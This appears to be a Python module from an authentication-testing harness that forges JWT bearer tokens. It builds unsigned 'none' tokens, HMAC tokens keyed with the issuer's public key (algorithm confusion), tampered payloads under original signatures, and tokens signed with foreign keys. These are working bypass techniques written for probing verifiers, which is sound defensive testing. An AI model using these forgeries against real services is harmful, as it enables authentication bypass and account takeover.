"""Forged and hostile bearer tokens for the AUTHN controls, built with PyJWT.

Nothing here implements JWS: signing goes through a private :class:`jwt.PyJWS` registry
(never PyJWT's global one), to which this module adds only what an attacker would: the
``none`` algorithm under case variants, HMAC keyed with the issuer's *public* key (which
PyJWT rightly refuses to do on its own), and an HMAC under an unregistered name.
Tampering with a token's payload while keeping its signature is base64url over the
segments, which is the attack itself.
"""

from __future__ import annotations

import functools
import json
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed448, ed25519, rsa
from jwt.algorithms import HMACAlgorithm, NoneAlgorithm
from jwt.utils import base64url_decode, base64url_encode

from harness.errors import ConfigError


class _KeyAsSecretHMAC(HMACAlgorithm):
    """HMAC that takes any bytes as the secret, public-key PEMs included."""

    def prepare_key(self, key: str | bytes) -> bytes:
        return key.encode() if isinstance(key, str) else key

    def check_key_length(self, key: bytes) -> str | None:
        """No complaint: the weak key is the point of the probe.

        (A warning filter around the call would not do: filters are process-wide.)
        """
        return None


@dataclass(frozen=True)
class Parsed:
    """A compact JWS split into its parts (nothing verified)."""

    header: dict[str, Any]
    claims: dict[str, Any]
    segments: tuple[str, str, str]


def parse(token: str) -> Parsed | None:
    """Split a compact JWS; ``None`` when the token is not one (an opaque token)."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header = json.loads(base64url_decode(parts[0]))
        claims = json.loads(base64url_decode(parts[1]))
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return Parsed(header, claims, (parts[0], parts[1], parts[2]))


def _b64json(data: dict[str, Any]) -> str:
    return base64url_encode(json.dumps(data, separators=(",", ":")).encode()).decode()


def tamper(token: Parsed, **changes: Any) -> str:
    """The same header and signature over a changed payload."""
    claims = {**token.claims, **changes}
    return f"{token.segments[0]}.{_b64json(claims)}.{token.segments[2]}"


def with_signature(token: Parsed, signature: bytes) -> str:
    """The same header and payload with another signature."""
    return f"{token.segments[0]}.{token.segments[1]}.{base64url_encode(signature).decode()}"


def json_serialization(token: Parsed) -> str:
    """The token in JWS JSON serialization (flattened), where compact form is expected."""
    return json.dumps(
        {
            "protected": token.segments[0],
            "payload": token.segments[1],
            "signature": token.segments[2],
        },
        separators=(",", ":"),
    )


@functools.cache
def harness_key(kind: str) -> Any:
    """A key the issuer never saw: ``ec`` (P-256) or ``rsa`` (2048), one per process."""
    if kind == "ec":
        return ec.generate_private_key(ec.SECP256R1())
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def sign(claims: dict[str, Any], key: Any, algorithm: str, header: dict[str, Any]) -> str:
    """Sign ``claims`` with ``key``; ``header`` entries other than ``alg`` are kept."""
    jws = jwt.PyJWS()
    extra = {k: v for k, v in header.items() if k != "alg"}
    return jws.encode(json.dumps(claims).encode(), key, algorithm=algorithm, headers=extra)


def unsigned(claims: dict[str, Any], header: dict[str, Any], alg_name: str) -> str:
    """``alg`` set to ``alg_name`` (a case variant of ``none``) and an empty signature."""
    jws = jwt.PyJWS(algorithms=[])
    jws.register_algorithm(alg_name, NoneAlgorithm())
    extra = {k: v for k, v in header.items() if k != "alg"}
    no_key: Any = None  # the none algorithm takes no key
    return jws.encode(json.dumps(claims).encode(), no_key, algorithm=alg_name, headers=extra)


def hmac_with(claims: dict[str, Any], header: dict[str, Any], alg: str, secret: bytes) -> str:
    """HS256/384/512 keyed with arbitrary bytes (the issuer's public key, for confusion)."""
    digests = {
        "HS256": HMACAlgorithm.SHA256,
        "HS384": HMACAlgorithm.SHA384,
        "HS512": HMACAlgorithm.SHA512,
    }
    jws = jwt.PyJWS(algorithms=[])
    # An unregistered name (RS1, XYZ) is signed with HMAC-SHA256.
    jws.register_algorithm(alg, _KeyAsSecretHMAC(digests.get(alg, HMACAlgorithm.SHA256)))
    extra = {k: v for k, v in header.items() if k != "alg"}
    return jws.encode(json.dumps(claims).encode(), secret, algorithm=alg, headers=extra)


def public_key_forms(key: Any) -> list[tuple[str, bytes]]:
    """An RSA or EC public key as HMAC secrets: PEM (with, without newline), DER, JWK JSON."""
    pem = key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    der = key.public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    jwk = _jwk_kind(key).to_jwk(key)
    return [
        ("public key PEM", pem),
        ("public key PEM without trailing newline", pem.rstrip(b"\n")),
        ("public key DER (SubjectPublicKeyInfo)", der),
        ("public key JWK JSON", jwk.encode()),
    ]


#: JWK members only a private key has (RFC 7518 §6.2.2, §6.3.2): never loaded as the key.
PRIVATE_JWK_MEMBERS = ("d", "p", "q", "dp", "dq", "qi", "oth")


def public_jwk(jwk: dict[str, Any]) -> dict[str, Any]:
    """``jwk`` without its private members: the public key it publishes."""
    return {k: v for k, v in jwk.items() if k not in PRIVATE_JWK_MEMBERS}


@dataclass(frozen=True)
class IssuerKeys:
    """What the harness knows of the token issuer's keys."""

    public_keys: tuple[tuple[str | None, str | None, Any], ...]  # (kid, alg, key)
    private_key: Any | None
    private_alg: str | None
    private_kid: str | None

    def public_key_forms(self) -> list[tuple[str, bytes]]:
        """The issuer's first public key as HMAC secrets (see :func:`public_key_forms`)."""
        return public_key_forms(self.public_keys[0][2]) if self.public_keys else []

    def mint(self, claims: dict[str, Any], header: dict[str, Any]) -> str:
        """A token signed by the real issuer key (only for targets whose key we hold)."""
        assert self.private_key is not None
        assert self.private_alg is not None
        head = dict(header)
        if self.private_kid:
            head["kid"] = self.private_kid
        return sign(claims, self.private_key, self.private_alg, head)


#: PyJWT's reader and writer of each JWK key type (RFC 7517, OKP: RFC 8037 Ed25519/Ed448).
_JWK_KINDS: dict[str | None, Any] = {
    "RSA": jwt.algorithms.RSAAlgorithm,
    "EC": jwt.algorithms.ECAlgorithm,
    "OKP": jwt.algorithms.OKPAlgorithm,
}


def _jwk_kind(key: Any) -> Any:
    """PyJWT's algorithm class that writes ``key`` as a JWK."""
    if isinstance(key, rsa.RSAPublicKey | rsa.RSAPrivateKey):
        return jwt.algorithms.RSAAlgorithm
    if isinstance(key, ec.EllipticCurvePublicKey | ec.EllipticCurvePrivateKey):
        return jwt.algorithms.ECAlgorithm
    return jwt.algorithms.OKPAlgorithm


def _default_alg(private: Any) -> str:
    """The JWS algorithm an issuer key signs with when its JWK names none."""
    if isinstance(private, ec.EllipticCurvePrivateKey):
        return "ES256"
    if isinstance(private, ed25519.Ed25519PrivateKey | ed448.Ed448PrivateKey):
        return "EdDSA"
    return "RS256"


def load_issuer_keys(
    jwks_file: Path | None, private_key_file: Path | None, source: str
) -> IssuerKeys:
    """Read ``auth.jwks_file`` and ``auth.issuer_private_key`` (either may be absent).

    Raises:
        ConfigError: a file is not a JWKS or not a PEM private key.
    """
    public: list[tuple[str | None, str | None, Any]] = []
    if jwks_file is not None:
        try:
            data = json.loads(jwks_file.read_text())
            for jwk in data["keys"]:
                algo = _JWK_KINDS.get(jwk.get("kty"))
                if algo is None:
                    raise ValueError(f"key type {jwk.get('kty')!r} is not RSA, EC or OKP")
                # A JWKS that (wrongly) publishes private members still names a public key.
                key = algo.from_jwk(json.dumps(public_jwk(jwk)))
                public.append((jwk.get("kid"), jwk.get("alg"), key))
        except (OSError, ValueError, KeyError, TypeError, jwt.InvalidKeyError) as exc:
            raise ConfigError(source, "auth.jwks_file", f"not a usable JWKS: {exc}") from None
    private = alg = kid = None
    if private_key_file is not None:
        try:
            private = serialization.load_pem_private_key(
                private_key_file.read_bytes(), password=None
            )
        except (OSError, ValueError, TypeError) as exc:
            raise ConfigError(
                source, "auth.issuer_private_key", f"not a PEM private key: {exc}"
            ) from None
        pub_der = private.public_key().public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        for k, a, key in public:
            der = key.public_bytes(
                serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
            )
            if der == pub_der:
                kid, alg = k, a
        if alg is None:
            alg = _default_alg(private)
    return IssuerKeys(tuple(public), private, alg, kid)


def renewer(keys: Callable[[], IssuerKeys]) -> Callable[[str], str | None]:
    """A function that re-signs an expiring token with fresh times, or gives ``None``.

    Only possible when the config holds the issuer's private key (``auth.issuer_private_key``,
    test issuers only); the claims, ``kid`` and ``typ`` stay, ``iat``/``nbf``/``exp`` move to
    now with the original lifetime, and a ``jti`` is renewed.
    """

    def renew(old: str) -> str | None:
        try:
            issuer = keys()
            claims = jwt.decode(old, options={"verify_signature": False})
            header = jwt.get_unverified_header(old)
        except (ConfigError, jwt.PyJWTError):
            return None
        if issuer.private_key is None or not isinstance(claims.get("exp"), (int, float)):
            return None
        now = int(time.time())
        lifetime = int(claims["exp"]) - int(claims.get("iat", int(claims["exp"]) - 900))
        claims.update(iat=now, exp=now + max(lifetime, 60))
        if "nbf" in claims:
            claims["nbf"] = now
        if "jti" in claims:
            claims["jti"] = uuid.uuid4().hex
        return issuer.mint(claims, header)

    return renew
